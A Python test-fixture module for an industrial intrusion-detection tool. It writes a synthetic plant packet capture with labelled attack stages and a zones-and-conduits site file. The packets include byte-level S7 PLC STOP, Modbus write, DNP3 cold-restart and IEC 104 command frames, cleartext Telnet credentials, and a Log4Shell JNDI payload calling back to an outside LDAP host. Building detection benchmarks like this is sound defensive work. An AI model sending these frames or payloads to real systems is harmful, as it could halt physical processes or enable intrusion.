"""A project-made plant capture with known attacks, and the site file that describes the plant.

Detection needs a capture whose every attack is known to the frame: the golden test of
``otshield analyze``, the benchmarks and the drills replay it. ``write_attack_capture(path)``
writes one, packet by packet, and returns its ground truth (one :class:`GroundTruth` per attack
stage: first and last frame, packet time, attacker and target, the ATT&CK for ICS techniques a
fitting alert carries). ``write_site(path)`` writes the site file of the same plant (zones,
named assets, the jump host, the conduits of the zones-and-conduits policy).

The plant (Purdue model)::

    Enterprise (level 4)  10.10.10.0/24  office PCs, DNS, intranet web server
    DMZ        (level 3)  10.10.15.0/24  the remote-access jump host, the plant web portal
    SCADA      (level 2)  10.10.20.0/24  HMI, SCADA master, engineering workstation, a switch
    Control    (level 1)  10.10.30.0/24  two Modbus PLCs, a Siemens S7 PLC, a DNP3 RTU,
                                         an IEC 60870-5-104 substation RTU

Normal operation comes first and goes on between the attacks: the HMI polls the Modbus PLCs,
the SCADA master polls the DNP3 RTU and keeps an IEC 104 link (general interrogation and
measurements), the engineering workstation reads the S7 PLC, an engineer reaches the HMI
through the jump host (RDP), office PCs resolve names and browse the intranet.

Then the attacks, one stage after the other (:data:`STAGES`): an office PC logs into the SCADA
switch over Telnet (credentials in clear), RDPs straight into the HMI (IT-to-OT lateral
movement, bypassing the jump host) and copies an executable onto it over SMB; a laptop plugged
into the control network writes Modbus registers and coils (not an authorised writer), sweeps
Modbus unit ids, reads S7 system status lists (SZL), puts the S7 PLC into STOP, cold-restarts
the DNP3 RTU and fires a burst of IEC 104 single commands; an internet host sends a Log4Shell
string to the DMZ web portal; a PLC opens a TLS connection to an internet address.

Every packet is protocol-correct (checksums, TCP handshakes and sequence numbers, the
encodings of each protocol): tshark dissects all of it without a malformed packet or an expert
warning. The same seed gives the same bytes; the seed varies ports, sequence numbers and
process values, never the story.
"""

from __future__ import annotations

import os
import random
import struct
from pathlib import Path

from otshield.demo import cotp_dt, dnp3, dns_answer, dns_query, modbus, s7, tls_client_hello, tpkt
from otshield.demo_grid import Iec104Link, apci_u, asdu, ioa
from otshield.pcapwriter import PcapWriter, TcpConversation, ethernet, ipv4, udp_datagram
from otshield.sim.scenario import GroundTruth

__all__ = ["HOSTS", "SITE_YAML", "STAGES", "GroundTruth", "nbss", "ntlm_authenticate",
           "ntlm_challenge", "ntlm_negotiate", "session_setup_req", "session_setup_resp",
           "write_attack_capture", "write_site"]

Host = tuple[str, str]
"""(IP address, MAC address)."""

HOSTS: dict[str, Host] = {
    # Enterprise, level 4
    "office_pc": ("10.10.10.101", "00:50:56:10:01:01"),
    "engineer_pc": ("10.10.10.102", "00:50:56:10:01:02"),
    "dns": ("10.10.10.53", "00:50:56:10:00:53"),
    "intranet": ("10.10.10.80", "00:50:56:10:00:80"),
    # DMZ, level 3
    "jump_host": ("10.10.15.5", "00:50:56:15:00:05"),
    "portal": ("10.10.15.80", "00:50:56:15:00:80"),
    # SCADA, level 2
    "switch": ("10.10.20.2", "00:1b:1b:20:00:02"),
    "hmi": ("10.10.20.10", "00:50:56:20:00:10"),
    "scada": ("10.10.20.20", "00:50:56:20:00:20"),
    "ews": ("10.10.20.30", "00:50:56:20:00:30"),
    # Control, level 1
    "plc1": ("10.10.30.11", "00:80:f4:30:00:11"),
    "plc2": ("10.10.30.12", "00:80:f4:30:00:12"),
    "s7plc": ("10.10.30.21", "00:1b:1b:30:00:21"),
    "rtu": ("10.10.30.40", "00:0e:8c:30:00:40"),
    "rtu104": ("10.10.30.50", "00:20:4a:30:00:50"),
    "rogue": ("10.10.30.99", "3c:52:82:30:00:99"),
    # The internet, through the plant's firewall (its MAC on the inside)
    "scanner": ("45.155.205.233", "00:1b:17:00:00:01"),
    "c2": ("93.184.216.34", "00:1b:17:00:00:01"),
}
"""Every address of the plant (the rogue laptop and the internet hosts are not in the site
file: nobody declared them)."""

SITE_YAML = """\
# Site file of the otshield test plant (otshield.detect.testplant): zones, named assets and the
# zones-and-conduits policy (IEC 62443-3-2) that the traffic of the plant follows.
site: otshield test plant
zones:
  - name: Enterprise
    level: 4
    security_level_target: 1
    subnets: [10.10.10.0/24]
    description: office network
  - name: DMZ
    level: 3
    security_level_target: 2
    subnets: [10.10.15.0/24]
    description: remote access and the plant web portal
  - name: SCADA
    level: 2
    security_level_target: 2
    subnets: [10.10.20.0/24]
    description: supervisory control
  - name: Control
    level: 1
    security_level_target: 3
    subnets: [10.10.30.0/24]
    description: controllers
assets:
  10.10.10.101: {name: OFFICE-PC-17}
  10.10.10.102: {name: ENGINEER-PC-03}
  10.10.10.53: {name: DNS-01}
  10.10.10.80: {name: INTRANET-WEB}
  10.10.15.5: {name: JUMP-01, role: jump_host}
  10.10.15.80: {name: PLANT-PORTAL}
  10.10.20.2: {name: SW-SCADA-01, role: network_device}
  10.10.20.10: {name: HMI-01, role: hmi}
  10.10.20.20: {name: SCADA-MASTER, role: hmi}
  10.10.20.30: {name: EWS-01, role: engineering_workstation}
  10.10.30.11: {name: PLC-PUMPS, role: controller}
  10.10.30.12: {name: PLC-VALVES, role: controller}
  10.10.30.21: {name: S7-FILLER, role: controller, safety: "false"}
  10.10.30.40: {name: RTU-WELLS, role: controller}
  10.10.30.50: {name: RTU-SUBSTATION, role: controller}
"""
"""The site file (zones and assets); :func:`write_site` adds the conduits when the
zones-and-conduits policy loader is installed."""

CONDUITS_YAML = """\
conduits:
  - name: office-to-dmz
    from: Enterprise
    to: DMZ
    protocols: [rdp, http, tls]
    functions: [read]
    description: engineers reach the jump host; staff read the plant portal
  - name: remote-access
    from: DMZ
    to: SCADA
    protocols: [rdp]
    functions: [read]
    description: the jump host is the only way into supervisory control
  - name: supervisory-control
    from: SCADA
    to: Control
    protocols: [modbus, dnp3, iec104]
    functions: [read, write, control]
    description: HMI and SCADA master poll and operate the controllers
  - name: engineering
    from: SCADA
    to: Control
    protocols: [s7comm]
    functions: [read, write, program, control, config, diagnostics, identify]
    description: the engineering workstation programs and diagnoses the S7 PLC
remote_access:
  jump_hosts: [10.10.15.5]
defaults:
  intra_zone: allow
  unknown_zone: alert
"""
"""The conduits of the plant (the format of :mod:`otshield.policy`)."""


STAGES: tuple[tuple[str, str], ...] = (
    ("telnet_cleartext_login", "Telnet login to the SCADA switch from an office PC"),
    ("rdp_it_to_ot", "RDP from an office PC straight into the HMI, bypassing the jump host"),
    ("smb_exe_upload", "an executable copied onto the HMI over SMB (ADMIN$)"),
    ("modbus_unauthorised_write", "Modbus register and coil writes from an unknown laptop"),
    ("modbus_unit_id_sweep", "Modbus device identification swept over unit ids 1-32"),
    ("s7_szl_read", "S7 system status list (SZL) reads: module and component identity"),
    ("s7_plc_stop", "S7 PLC put into STOP"),
    ("dnp3_cold_restart", "DNP3 cold restart of the RTU"),
    ("iec104_command_burst", "a burst of IEC 104 single commands to the substation RTU"),
    ("log4shell_http", "Log4Shell JNDI string sent to the DMZ web portal from the internet"),
    ("plc_to_internet", "a PLC opens a TLS connection to an internet address"),
)
"""The attack stages in capture order: (name, what happens)."""

_TECHNIQUES: dict[str, tuple[tuple[str, ...], str]] = {
    "telnet_cleartext_login": (("T0859", "T0812", "T0886"), "it.telnet"),
    "rdp_it_to_ot": (("T0886", "T0822", "T0859"), "it.lateral"),
    "smb_exe_upload": (("T0867",), "it.smb"),
    "modbus_unauthorised_write": (("T0855", "T0836", "T0831"), "ot.modbus"),
    "modbus_unit_id_sweep": (("T0846", "T0888"), "ot.modbus"),
    "s7_szl_read": (("T0888", "T0846"), "ot.s7"),
    "s7_plc_stop": (("T0881", "T0858"), "ot.s7"),
    "dnp3_cold_restart": (("T0816",), "ot.dnp3"),
    "iec104_command_burst": (("T0855", "T0831", "T0806"), "ot.iec104"),
    "log4shell_http": (("T0819", "T0866"), "it.http"),
    "plc_to_internet": (("T0883", "T0869", "T0885"), "it.internet"),
}
"""Stage -> (fitting techniques, expected rule family)."""


# -- the writer ---------------------------------------------------------------------------------
class _Plant:
    """Writes conversations at the plant's packet time; counts frames for the ground truth."""

    def __init__(self, w: PcapWriter, seed: int, start: float) -> None:
        self.w = w
        self.rnd = random.Random(seed)
        self.t = start
        self.port = 49152 + self.rnd.randrange(4000)
        self.tid = 0
        self.dnp3_seq = 0
        self.cycles = 0

    # packets
    def tcp(self, client: Host, server: Host, port: int) -> TcpConversation:
        self.port = 49152 + (self.port - 49151) % 16000
        conv = TcpConversation(self.w, (client[0], self.port), (server[0], port), client[1],
                               server[1], start=self.t,
                               isn=(self.rnd.getrandbits(32), self.rnd.getrandbits(32)))
        return conv.handshake()

    def done(self, conv: TcpConversation, pause: float = 0.05) -> None:
        conv.close()
        self.t = conv.ts + pause

    def udp(self, src: Host, dst: Host, sport: int, dport: int, payload: bytes) -> None:
        pkt = ipv4(src[0], dst[0], 17, udp_datagram(src[0], dst[0], sport, dport, payload))
        self.w.write(self.t, ethernet(src[1], dst[1], 0x0800, pkt))
        self.t += 0.0004

    # -- normal operation ---------------------------------------------------------------------
    def normal_cycle(self) -> None:
        """About ten seconds of the plant at work."""
        n = self.cycles
        self.cycles += 1
        self._hmi_polls()
        self._dnp3_poll()
        self._iec104_link()
        self._s7_reads()
        self._office(n)
        if n % 10 == 1:
            self._jump_host_session()
        self.t += 2.0 + self.rnd.random() * 0.1

    def _hmi_polls(self) -> None:
        for plc, unit in ((HOSTS["plc1"], 1), (HOSTS["plc2"], 1)):
            conv = self.tcp(HOSTS["hmi"], plc, 502)
            for _ in range(5):
                self.tid = (self.tid + 1) & 0xFFFF
                conv.send(True, modbus(self.tid, unit, struct.pack("!BHH", 3, 0, 10)), ack=False)
                regs = [self.rnd.randrange(0, 1000) for _ in range(10)]
                conv.send(False, modbus(self.tid, unit, bytes([3, 20])
                                        + struct.pack("!10H", *regs)))
                conv.ts += 0.5 + self.rnd.random() * 0.01
            self.done(conv)

    def _dnp3_poll(self) -> None:
        conv = self.tcp(HOSTS["scada"], HOSTS["rtu"], 20000)
        for _ in range(2):
            seq = self.dnp3_seq = (self.dnp3_seq + 1) & 0x0F
            req = bytes([0xC0 | seq, 0xC0 | seq, 0x01, 60, 1, 0x06])  # read class 0
            conv.send(True, dnp3(0xC4, 10, 1, req), ack=False)
            values = b"".join(b"\x01" + struct.pack("<i", self.rnd.randrange(0, 5000))
                              for _ in range(4))
            app = bytes([0xC0 | seq, 0xC0 | seq, 0x81, 0x00, 0x00, 30, 1, 0x00, 0, 3]) + values
            conv.send(False, dnp3(0x44, 1, 10, app))
            conv.ts += 1.0
        self.done(conv)

    def _iec104_link(self) -> None:
        conv = self.tcp(HOSTS["scada"], HOSTS["rtu104"], 2404)
        conv.send(True, apci_u(0x07))   # STARTDT act
        conv.send(False, apci_u(0x0B))  # STARTDT con
        link = Iec104Link(conv)
        gi = [ioa(0) + b"\x14"]  # QOI 20: station interrogation
        link.send(True, asdu(100, 6, gi))
        link.send(False, asdu(100, 7, gi))
        measured = [ioa(1001 + i) + struct.pack("<f", v) + b"\x00" for i, v in enumerate(
            (110.2 + self.rnd.random(), 10.9 + self.rnd.random() / 10))]
        link.send(False, asdu(13, 20, measured))  # M_ME_NC_1, interrogated by station
        link.send(False, asdu(3, 20, [ioa(2001) + b"\x02", ioa(2002) + b"\x02"]))  # closed
        link.send(False, asdu(100, 10, gi))  # activation termination
        link.ack()
        conv.ts += 1.0
        link.send(False, asdu(13, 1, measured[:1]))  # periodic
        link.ack()
        conv.send(True, apci_u(0x13))   # STOPDT act
        conv.send(False, apci_u(0x23))  # STOPDT con
        self.done(conv)

    def _s7_connect(self, client: Host) -> TcpConversation:
        conv = self.tcp(client, HOSTS["s7plc"], 102)
        conv.send(True, tpkt(b"\x11\xe0\x00\x00\x00\x01\x00\xc1\x02\x01\x00\xc2\x02\x01\x02"
                             b"\xc0\x01\x0a"))
        conv.send(False, tpkt(b"\x11\xd0\x00\x01\x00\x01\x00\xc1\x02\x01\x00\xc2\x02\x01\x02"
                              b"\xc0\x01\x0a"))
        conv.send(True, cotp_dt(s7(1, 1, b"\xf0\x00\x00\x01\x00\x01\x01\xe0")))
        conv.send(False, cotp_dt(s7(3, 1, b"\xf0\x00\x00\x01\x00\x01\x00\xf0", err=b"\x00\x00")))
        return conv

    def _s7_reads(self) -> None:
        conv = self._s7_connect(HOSTS["ews"])
        item = b"\x12\x0a\x10\x02\x00\x04\x00\x01\x84\x00\x00\x00"  # DB1.DBB0, 4 bytes
        for ref in (2, 3):
            conv.send(True, cotp_dt(s7(1, ref, b"\x04\x01" + item)))
            conv.send(False, cotp_dt(s7(3, ref, b"\x04\x01", b"\xff\x04\x00\x20"
                                        + struct.pack("!I", self.rnd.getrandbits(32)),
                                        err=b"\x00\x00")))
            conv.ts += 0.5
        self.done(conv)

    def _office(self, n: int) -> None:
        pc = HOSTS["office_pc"] if n % 2 else HOSTS["engineer_pc"]
        qid = self.rnd.getrandbits(16)
        sport = 50000 + self.rnd.randrange(10000)
        self.udp(pc, HOSTS["dns"], sport, 53, dns_query(qid, "intranet.example.com"))
        self.udp(HOSTS["dns"], pc, 53, sport,
                 dns_answer(qid, "intranet.example.com", HOSTS["intranet"][0]))
        conv = self.tcp(pc, HOSTS["intranet"], 80)
        conv.send(True, b"GET /reports/shift.html HTTP/1.1\r\nHost: intranet.example.com\r\n"
                  b"User-Agent: Mozilla/5.0 (Windows NT 10.0; Win64; x64)\r\n\r\n")
        body = b"<html><body>shift report</body></html>"
        conv.send(False, b"HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html\r\n"
                  b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body)
        self.done(conv)

    def _jump_host_session(self) -> None:
        """The sanctioned path: engineer PC -> jump host -> HMI, both over RDP."""
        self._rdp(HOSTS["engineer_pc"], HOSTS["jump_host"], "engineer")
        self._rdp(HOSTS["jump_host"], HOSTS["hmi"], "engineer")

    def _rdp(self, client: Host, server: Host, user: str) -> None:
        conv = self.tcp(client, server, 3389)
        cookie = f"Cookie: mstshash={user}\r\n".encode()
        neg_req = struct.pack("<BBHI", 1, 0, 8, 0x0B)  # TLS | CredSSP | CredSSP-EX
        cr = cookie + neg_req
        conv.send(True, tpkt(bytes([6 + len(cr), 0xE0, 0, 0, 0, 0, 0]) + cr))
        neg_rsp = struct.pack("<BBHI", 2, 0x1F, 8, 0x02)  # CredSSP selected
        conv.send(False, tpkt(bytes([6 + len(neg_rsp), 0xD0, 0, 0, 0x12, 0x34, 0]) + neg_rsp))
        conv.ts += 2.0
        self.done(conv)

    # -- attacks -------------------------------------------------------------------------------
    def telnet_cleartext_login(self) -> None:
        conv = self.tcp(HOSTS["office_pc"], HOSTS["switch"], 23)
        conv.send(False, b"\r\nSW-SCADA-01 (industrial switch)\r\n\r\nUser Name: ")
        conv.send(True, b"admin\r\n")
        conv.send(False, b"Password: ")
        conv.send(True, b"private\r\n")
        conv.send(False, b"\r\nSW-SCADA-01# ")
        conv.send(True, b"show running-config\r\n")
        conv.send(False, b"\r\nhostname SW-SCADA-01\r\nvlan 20 name SCADA\r\n\r\nSW-SCADA-01# ")
        conv.send(True, b"exit\r\n")
        self.done(conv)

    def rdp_it_to_ot(self) -> None:
        self._rdp(HOSTS["office_pc"], HOSTS["hmi"], "operator")

    def smb_exe_upload(self) -> None:
        _SmbUpload(self).run(HOSTS["office_pc"], HOSTS["hmi"], "HMI-01", "ADMIN$",
                             "Temp\\hmi_update.exe", _fake_exe(self.rnd, 6000))

    def modbus_unauthorised_write(self) -> None:
        conv = self.tcp(HOSTS["rogue"], HOSTS["plc1"], 502)
        writes = [struct.pack("!BHHB4H", 16, 100, 4, 8, 0, 9999, 9999, 0),  # setpoints
                  struct.pack("!BHH", 5, 0, 0xFF00),                       # coil 0 on
                  struct.pack("!BHH", 6, 4, 65535)]                        # register 4
        for pdu in writes:
            self.tid = (self.tid + 1) & 0xFFFF
            conv.send(True, modbus(self.tid, 1, pdu), ack=False)
            echo = pdu[:5]  # FC 16 answers address and quantity, FC 5/6 echo the request
            conv.send(False, modbus(self.tid, 1, echo))
            conv.ts += 0.2
        self.done(conv)

    def modbus_unit_id_sweep(self) -> None:
        conv = self.tcp(HOSTS["rogue"], HOSTS["plc2"], 502)
        for unit in range(1, 33):
            self.tid = (self.tid + 1) & 0xFFFF
            conv.send(True, modbus(self.tid, unit, bytes([0x2B, 0x0E, 0x01, 0x00])), ack=False)
            if unit == 1:
                objs = [b"Schneider Electric", b"M340 BMX P34 2020", b"v3.10"]
                body = bytes([0x2B, 0x0E, 0x01, 0x01, 0x00, 0x00, len(objs)]) + b"".join(
                    bytes([i, len(o)]) + o for i, o in enumerate(objs))
                conv.send(False, modbus(self.tid, unit, body))
            else:  # exception 0x0B: gateway target device failed to respond
                conv.send(False, modbus(self.tid, unit, bytes([0xAB, 0x0B])))
            conv.ts += 0.05
        self.done(conv)

    def s7_szl_read(self) -> None:
        conv = self._s7_connect(HOSTS["rogue"])
        answers = {
            0x0011: _szl_answer(0x0011, 28, [
                struct.pack(">H20sHHH", 1, b"6ES7 315-2EH14-0AB0 ", 0xC0, 3, 1),
                struct.pack(">H20sHHH", 7, b"6ES7 315-2EH14-0AB0 ", 0xC0, 0x5603, 0x0207)]),
            0x001C: _szl_answer(0x001C, 34, [
                struct.pack(">H32s", 1, b"S7-FILLER"), struct.pack(">H32s", 2, b"CPU 315-2"),
                struct.pack(">H32s", 5, b"S C-H7K1284561")]),
        }
        for seq, (szl_id, answer) in enumerate(answers.items(), start=1):
            ref = 10 + seq
            request = b"\x00\x01\x12\x04\x11\x44\x01\x00"  # userdata request, CPU, read SZL
            conv.send(True, cotp_dt(s7(7, ref, request,
                                       b"\xff\x09\x00\x04" + struct.pack(">HH", szl_id, 0))))
            response = b"\x00\x01\x12\x08\x12\x84\x01" + bytes([seq]) + b"\x00\x00\x00\x00"
            conv.send(False, cotp_dt(s7(7, ref, response,
                                        b"\xff\x09" + struct.pack(">H", len(answer)) + answer)))
            conv.ts += 0.1
        self.done(conv)

    def s7_plc_stop(self) -> None:
        conv = self._s7_connect(HOSTS["rogue"])
        conv.send(True, cotp_dt(s7(1, 20, b"\x29\x00\x00\x00\x00\x00\x09P_PROGRAM")))
        conv.send(False, cotp_dt(s7(3, 20, b"\x29", err=b"\x00\x00")))
        self.done(conv)

    def dnp3_cold_restart(self) -> None:
        conv = self.tcp(HOSTS["rogue"], HOSTS["rtu"], 20000)
        seq = 5
        conv.send(True, dnp3(0xC4, 10, 3, bytes([0xC0 | seq, 0xC0 | seq, 0x0D])), ack=False)
        # Response: time delay fine (g52v2), 5000 ms until the outstation is back.
        app = bytes([0xC0 | seq, 0xC0 | seq, 0x81, 0x00, 0x00, 52, 2, 0x07, 1]) + struct.pack(
            "<H", 5000)
        conv.send(False, dnp3(0x44, 3, 10, app))
        self.done(conv)

    def iec104_command_burst(self) -> None:
        conv = self.tcp(HOSTS["rogue"], HOSTS["rtu104"], 2404)
        conv.send(True, apci_u(0x07))
        conv.send(False, apci_u(0x0B))
        link = Iec104Link(conv)
        for i in range(16):  # C_SC_NA_1 direct execute, alternately off and on
            command = [ioa(3001 + i % 4) + bytes([i % 2])]
            link.send(True, asdu(45, 6, command))
            link.send(False, asdu(45, 7, command))
            link.send(False, asdu(45, 10, command))
            conv.ts += 0.05
        link.ack()
        conv.send(True, apci_u(0x13))
        conv.send(False, apci_u(0x23))
        self.done(conv)

    def log4shell_http(self) -> None:
        conv = self.tcp(HOSTS["scanner"], HOSTS["portal"], 80)
        jndi = b"${jndi:ldap://45.155.205.233:1389/Basic/Command/Base64/dG91Y2ggL3RtcC9wd24=}"
        conv.send(True, b"GET /portal/login?next=%2Fdashboard HTTP/1.1\r\n"
                  b"Host: 10.10.15.80\r\nUser-Agent: " + jndi + b"\r\n"
                  b"X-Api-Version: " + jndi + b"\r\nAccept: */*\r\n\r\n")
        body = b"<html><body>Not Found</body></html>"
        conv.send(False, b"HTTP/1.1 404 Not Found\r\nServer: Apache-Coyote/1.1\r\n"
                  b"Content-Type: text/html\r\nContent-Length: " + str(len(body)).encode()
                  + b"\r\n\r\n" + body)
        self.done(conv)

    def plc_to_internet(self) -> None:
        conv = self.tcp(HOSTS["plc2"], HOSTS["c2"], 443)
        conv.send(True, tls_client_hello("update.example.com", self.rnd))
        self.done(conv)


def _szl_answer(szl_id: int, record_length: int, records: list[bytes]) -> bytes:
    """SZL answer: id, index 0, record length, record count, the records."""
    return struct.pack(">HHHH", szl_id, 0, record_length, len(records)) + b"".join(records)


def _fake_exe(rnd: random.Random, size: int) -> bytes:
    """The start of a PE file (MZ header, DOS stub, PE signature) and random bytes: what a
    dropped tool looks like on the wire; nothing that runs."""
    dos = bytearray(b"MZ" + bytes(58) + struct.pack("<I", 0x80))
    dos += b"This program cannot be run in DOS mode.\r\r\n$".ljust(0x80 - len(dos), b"\0")
    pe = b"PE\0\0" + struct.pack("<HH", 0x8664, 3)
    return bytes(dos) + pe + bytes(rnd.getrandbits(8) for _ in range(size - len(dos) - len(pe)))


# -- SMB2 ([MS-SMB2] 2.2) ---------------------------------------------------------------------
def nbss(payload: bytes) -> bytes:
    return b"\x00" + len(payload).to_bytes(3, "big") + payload


class _SmbUpload:
    """An SMB 2.1 session that writes one file: negotiate, NTLM session setup, tree connect,
    create, write, close, tree disconnect, logoff."""

    def __init__(self, plant: _Plant) -> None:
        self.p = plant
        self.mid = 0
        self.session = 0x0000_0400_0000_0011
        self.tree = 0

    def _header(self, command: int, response: bool, status: int = 0) -> bytes:
        flags = 0x1 if response else 0
        return struct.pack("<4sHHIHHIIQIIQ16s", b"\xfeSMB", 64, 1, status, command, 1, flags, 0,
                           self.mid, 0, self.tree, self.session if command else 0, bytes(16))

    def _exchange(self, conv: TcpConversation, command: int, request: bytes, response: bytes,
                  status: int = 0) -> None:
        conv.send(True, nbss(self._header(command, False) + request), ack=False)
        conv.send(False, nbss(self._header(command, True, status) + response))
        self.mid += 1

    def run(self, client: Host, server: Host, server_name: str, share: str, name: str,
            data: bytes) -> None:
        conv = self.p.tcp(client, server, 445)
        guid = bytes(self.p.rnd.getrandbits(8) for _ in range(16))
        # NEGOTIATE: SMB 2.0.2 and 2.1; the server picks 2.1.
        dialects = struct.pack("<HH", 0x0202, 0x0210)
        self._exchange(conv, 0, struct.pack("<HHHHI16sQ", 36, 2, 1, 0, 0x7F, guid, 0) + dialects,
                       struct.pack("<HHHH16sIIIIQQHHI", 65, 1, 0x0210, 0, bytes(range(16)), 0x7,
                                   1 << 20, 1 << 20, 1 << 20, 0, 0, 128, 0, 0) + b"\0")
        # SESSION_SETUP with raw NTLMSSP: negotiate / challenge (more processing), authenticate.
        ntlm1 = ntlm_negotiate()
        self._exchange(conv, 1, session_setup_req(ntlm1),
                       session_setup_resp(ntlm_challenge(server_name)), status=0xC0000016)
        self._exchange(conv, 1, session_setup_req(ntlm_authenticate(
                           "operator", "PLANT", "OFFICE-PC-17", server_name, conv.ts)),
                       session_setup_resp(b""))
        # TREE_CONNECT \\HMI-01\ADMIN$
        path = f"\\\\{server_name}\\{share}".encode("utf-16-le")
        self._exchange(conv, 3, struct.pack("<HHHH", 9, 0, 72, len(path)) + path,
                       struct.pack("<HBBIII", 16, 1, 0, 0, 0, 0x001F01FF))
        self.tree = 1
        # CREATE the file (overwrite if present), write it in 4 KiB pieces, close it.
        raw = name.encode("utf-16-le")
        file_id = struct.pack("<QQ", 0x41, 0x9000_0041)
        self._exchange(conv, 5, struct.pack("<HBBIQQIIIIIHHII", 57, 0, 0, 2, 0, 0, 0x0012019F,
                                            0x80, 0x7, 5, 0x40, 120, len(raw), 0, 0) + raw,
                       struct.pack("<HBBIQQQQQQII16sII", 89, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0x20, 0,
                                   file_id, 0, 0) + b"\0")
        for offset in range(0, len(data), 4096):
            piece = data[offset:offset + 4096]
            self._exchange(conv, 9, struct.pack("<HHIQ16sIIHHI", 49, 112, len(piece), offset,
                                                file_id, 0, 0, 0, 0, 0) + piece,
                           struct.pack("<HHIIHH", 17, 0, len(piece), 0, 0, 0) + b"\0")
        self._exchange(conv, 6, struct.pack("<HHI16s", 24, 1, 0, file_id),
                       struct.pack("<HHIQQQQQQI", 60, 1, 0, 0, 0, 0, 0, len(data), len(data),
                                   0x20))
        self._exchange(conv, 4, struct.pack("<HH", 4, 0), struct.pack("<HH", 4, 0))
        self.tree = 0
        self._exchange(conv, 2, struct.pack("<HH", 4, 0), struct.pack("<HH", 4, 0))
        self.p.done(conv)


def session_setup_req(blob: bytes) -> bytes:
    return struct.pack("<HBBIIHHQ", 25, 0, 0x01, 0x01, 0, 88, len(blob), 0) + blob


def session_setup_resp(blob: bytes) -> bytes:
    return struct.pack("<HHHH", 9, 0, 72 if blob else 0, len(blob)) + (blob or b"\0")


def _ntlm_field(payload: bytearray, base: int, data: bytes) -> bytes:
    offset = base + len(payload)
    payload += data
    return struct.pack("<HHI", len(data), len(data), offset)


_NTLM_VERSION = struct.pack("<BBH3xB", 10, 0, 19041, 15)


def ntlm_negotiate() -> bytes:
    """[MS-NLMP] 2.2.1.1 without domain or workstation."""
    payload = bytearray()
    domain = _ntlm_field(payload, 40, b"")
    workstation = _ntlm_field(payload, 40, b"")
    return (b"NTLMSSP\0" + struct.pack("<II", 1, 0xE2088297) + domain + workstation
            + _NTLM_VERSION)


def ntlm_challenge(computer: str) -> bytes:
    """[MS-NLMP] 2.2.1.2 with target info (2.2.2.1: NetBIOS domain and computer names)."""
    def utf16(s: str) -> bytes:
        return s.encode("utf-16-le")

    info = b"".join(struct.pack("<HH", av, len(utf16(v))) + utf16(v)
                    for av, v in ((2, "PLANT"), (1, computer))) + b"\0\0\0\0"
    payload = bytearray()
    target = _ntlm_field(payload, 56, utf16("PLANT"))
    target_info = _ntlm_field(payload, 56, info)
    return (b"NTLMSSP\0" + struct.pack("<I", 2) + target + struct.pack("<I", 0xE2898215)
            + bytes.fromhex("0123456789abcdef") + bytes(8) + target_info + _NTLM_VERSION
            + bytes(payload))


def ntlm_authenticate(user: str, domain: str, workstation: str, server: str,
                       ts: float) -> bytes:
    """[MS-NLMP] 2.2.1.3 with an NTLMv2 response laid out as 2.2.2.8 says (the proof and
    the challenge are filler: nothing here can be cracked)."""
    filetime = int((ts + 11_644_473_600) * 10_000_000)  # 100 ns since 1601-01-01
    pairs = b"".join(struct.pack("<HH", av, len(v.encode("utf-16-le"))) + v.encode("utf-16-le")
                     for av, v in ((2, domain), (1, server))) + b"\0\0\0\0"
    client_challenge = b"\x5a" * 8
    nt_response = (b"\xbb" * 16 + b"\x01\x01" + bytes(6) + struct.pack("<Q", filetime)
                   + client_challenge + bytes(4) + pairs + bytes(4))
    payload = bytearray()
    base = 88  # fixed part, VERSION, MIC
    fields = [_ntlm_field(payload, base, data) for data in (
        bytes(24), nt_response, domain.encode("utf-16-le"), user.encode("utf-16-le"),
        workstation.encode("utf-16-le"), b"\xcc" * 16)]
    return (b"NTLMSSP\0" + struct.pack("<I", 3) + b"".join(fields)
            + struct.pack("<I", 0xE2888215) + _NTLM_VERSION + bytes(16) + bytes(payload))


# -- the capture --------------------------------------------------------------------------------
NORMAL_CYCLES = 30
"""Cycles of normal operation before the first attack (about five minutes of packet time)."""


def _temp_name(path: Path) -> Path:
    """A temporary file beside ``path`` (same file system, so ``os.replace`` is atomic)."""
    return path.with_name(f".{path.name}.{os.getpid()}.{random.getrandbits(32):08x}.tmp")


def write_attack_capture(path: Path, seed: int = 1, start: float = 1_767_258_000.0,
                         normal_cycles: int = NORMAL_CYCLES) -> list[GroundTruth]:
    """Write the attack capture to ``path`` (atomically) and return its ground truth, one entry
    per attack stage in capture order. ``normal_cycles`` of normal operation come first (their
    packets are ``truth[0].first_frame - 1``: a baseline learns on them); one more cycle of
    normal traffic runs between the stages and after the last."""
    truth: list[GroundTruth] = []
    tmp = _temp_name(path)
    try:
        with tmp.open("xb") as fh:
            w = PcapWriter(fh)
            plant = _Plant(w, seed, start)
            for _ in range(normal_cycles):
                plant.normal_cycle()
            for stage, description in STAGES:
                first, ts = w.count + 1, plant.t
                getattr(plant, stage)()
                techniques, rule = _TECHNIQUES[stage]
                src, dst = _ENDS[stage]
                truth.append(GroundTruth(stage=stage, first_frame=first, last_frame=w.count,
                                         ts=ts, src=HOSTS[src][0], dst=HOSTS[dst][0],
                                         techniques=techniques, rule=rule,
                                         description=description))
                plant.t += 1.0
                plant.normal_cycle()
        os.replace(tmp, path)
    except BaseException:
        tmp.unlink(missing_ok=True)
        raise
    return truth


_ENDS: dict[str, tuple[str, str]] = {
    "telnet_cleartext_login": ("office_pc", "switch"),
    "rdp_it_to_ot": ("office_pc", "hmi"),
    "smb_exe_upload": ("office_pc", "hmi"),
    "modbus_unauthorised_write": ("rogue", "plc1"),
    "modbus_unit_id_sweep": ("rogue", "plc2"),
    "s7_szl_read": ("rogue", "s7plc"),
    "s7_plc_stop": ("rogue", "s7plc"),
    "dnp3_cold_restart": ("rogue", "rtu"),
    "iec104_command_burst": ("rogue", "rtu104"),
    "log4shell_http": ("scanner", "portal"),
    "plc_to_internet": ("plc2", "c2"),
}
"""Stage -> (attacker, target) names in :data:`HOSTS`."""


def site_text(conduits: bool | None = None) -> str:
    """The site file; ``conduits`` None: with the conduits when :mod:`otshield.policy` (the
    loader that understands them) is installed."""
    if conduits is None:
        try:
            import otshield.policy  # noqa: F401
        except ImportError:
            conduits = False
        else:
            conduits = True
    return SITE_YAML + (CONDUITS_YAML if conduits else "")


def write_site(path: Path, conduits: bool | None = None) -> Path:
    """Write the plant's site file to ``path`` (atomically) and return the path."""
    tmp = _temp_name(path)
    try:
        with tmp.open("x", encoding="utf-8") as fh:
            fh.write(site_text(conduits))
        os.replace(tmp, path)
    except BaseException:
        tmp.unlink(missing_ok=True)
        raise
    return path
